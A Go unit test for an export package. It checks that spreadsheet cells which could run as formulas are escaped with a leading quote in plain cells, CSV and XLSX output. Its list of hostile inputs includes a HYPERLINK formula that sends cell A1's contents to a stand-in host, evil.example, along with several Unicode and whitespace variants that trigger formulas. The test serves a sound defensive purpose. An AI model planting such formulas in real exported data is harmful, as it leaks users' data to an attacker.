package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// A cell that a spreadsheet would run as a formula is written as text.
func TestFormulaInjection(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
		" =1+1", "\n=1+1", "＝1+1", " ＋1", "\u00a0@SUM(A1)", "\u3000－2"}
	fine := []string{"Laki-laki", "0-5", "25-44", "Pacar/Teman", "", "3524/2026/00001", " Sukorejo", "１２ tahun"}
	for _, s := range evil {
		if got := SafeCell(s); !strings.HasPrefix(got, "'") {
			t.Errorf("SafeCell(%q) = %q: still a formula", s, got)
		}
	}
	for _, s := range fine {
		if got := SafeCell(s); got != s {
			t.Errorf("SafeCell(%q) = %q: changed a harmless cell", s, got)
		}
	}
	header := []string{"A", "B"}
	rows := [][]string{{evil[0], "ok"}, {"-2+3", "@x"}}
	var b bytes.Buffer
	if err := WriteCSV(&b, header, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("csv: %v %v", err, recs)
	}
	for _, r := range recs[1:] {
		for _, c := range r {
			if c != "ok" && !strings.HasPrefix(c, "'") {
				t.Errorf("csv cell %q reads as a formula", c)
			}
		}
	}
	b.Reset()
	if err := WriteXLSX(&b, "Register", header, rows); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, cell := range []string{"A2", "A3", "B3"} {
		if formula, _ := f.GetCellFormula("Register", cell); formula != "" {
			t.Errorf("xlsx %s holds a formula %q", cell, formula)
		}
		if v, _ := f.GetCellValue("Register", cell); !strings.HasPrefix(v, "'") {
			t.Errorf("xlsx %s = %q", cell, v)
		}
	}
	if v, _ := f.GetCellValue("Register", "A1"); v != "A" {
		t.Fatalf("xlsx header %q", v)
	}
}
